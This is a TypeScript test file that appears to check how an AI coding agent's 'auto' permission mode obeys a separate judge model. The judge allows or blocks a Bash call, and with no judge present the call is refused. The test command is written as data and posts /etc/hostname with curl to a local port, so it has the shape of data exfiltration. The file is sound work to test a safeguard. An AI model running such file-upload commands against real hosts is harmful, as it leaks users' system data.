/** Claude Code in auto mode, where a provider judges nothing: with a judge of the harness, and without. */
import { existsSync } from "node:fs";
import path from "node:path";
import type { Said } from "../../kit/wire/said.ts";
import { startClaude, type Ended } from "../cli.ts";
import { calling, model, type Heard } from "./lines.ts";
import type { Scene } from "./scene.ts";
import type { Stage } from "./stage.ts";

const formats = ["chat", "responses", "gemini"] as const;
const reason = "It sends a file away.";
const file = "done.txt";
// Nothing listens there. Reading and writing alone would need no judge.
const command = `curl -s -d @/etc/hostname http://127.0.0.1:9/ ; touch ${file}`;

function say({ results, offers }: Heard): Said {
  if (!offers("Bash")) return { text: "<block>no" };
  return results.length === 0
    ? calling("Bash", { command, description: "Sends it" })
    : { text: `Heard: ${results[0]?.text}` };
}

function judge(decision: "allow" | "block"): () => Said {
  const verdict = { call: 1, decision, ...(decision === "block" && { reason }) };
  return () => ({ text: JSON.stringify({ verdicts: [verdict] }) });
}

async function work(stage: Stage): Promise<Ended & { ran: boolean; problems: string[] }> {
  const run = { ...stage.run, client: "claude" as const, model: "lab/m" };
  const args = ["--permission-mode", "auto"];
  // Variables of a terminal in which it may be root.
  const environment = { IS_SANDBOX: "1" };
  const ended = await startClaude(run, { prompt: "Send the file.", args, environment });
  const told = stage.received["lab"]?.some(({ text }) =>
    /safeguards|classifier_context/.test(text),
  );
  return {
    ...ended,
    ran: existsSync(path.join(stage.work, file)),
    problems: told === true ? ["the model's provider was told what the judge is asked"] : [],
  };
}

function judged(decision: "allow" | "block"): Scene {
  return {
    name: `auto-mode-${decision}`,
    formats,
    cast: (format) => ({ lab: model(format, say), court: model("chat", judge(decision)) }),
    async play(stage) {
      await stage.open({ safeguard_model: "court/m" });
      const { ran, output, problems } = await work(stage);
      if (ran !== (decision === "allow"))
        problems.push(`the command ${ran ? "ran" : "did not run"}`);
      if (decision === "block" && !output.includes(reason))
        problems.push("the reason was not told");
      if (/check|classifier unavailable/i.test(output.replaceAll(/Heard:.*/g, "")))
        problems.push("it warns of auto mode");
      // Two turns of the agent: it asked nobody else.
      const asked = { lab: stage.received["lab"]?.length, court: stage.received["court"]?.length };
      if (asked.lab !== 2 || asked.court !== 1)
        problems.push(`the model was asked ${asked.lab} times, the judge ${asked.court} times`);
      return problems.length > 0 ? [...problems, output.slice(-1000)] : [];
    },
  };
}

/** It is told that nobody judges, says so, and does not run what it would have to have judged. */
const unjudged: Scene = {
  name: "auto-mode-unjudged",
  formats,
  cast: (format) => ({ lab: model(format, say) }),
  async play(stage) {
    await stage.open();
    const { ran, output, problems } = await work(stage);
    if (ran) problems.push("the command ran");
    if (!/auto mode can't check actions/i.test(output)) problems.push("it does not say why");
    return problems.length > 0 ? [...problems, output.slice(-1000)] : [];
  },
};

export const autoModes: readonly Scene[] = [judged("allow"), judged("block"), unjudged];
